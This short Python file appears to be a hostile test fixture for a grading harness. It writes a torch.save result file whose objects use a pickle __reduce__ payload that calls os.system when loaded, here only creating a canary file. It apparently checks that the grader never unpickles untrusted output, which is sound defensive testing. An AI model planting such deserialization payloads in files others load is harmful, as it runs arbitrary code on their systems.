"""Hostile: hand the grader a result file that executes code if it is ever unpickled."""

import os

import torch


class Payload:
    def __reduce__(self):
        return (os.system, ("touch __HOSTILE_CANARY__.pwned",))


with os.fdopen(3, "wb", closefd=False) as handle:
    torch.save({"y": Payload(), "keys": Payload()}, handle)
os._exit(0)
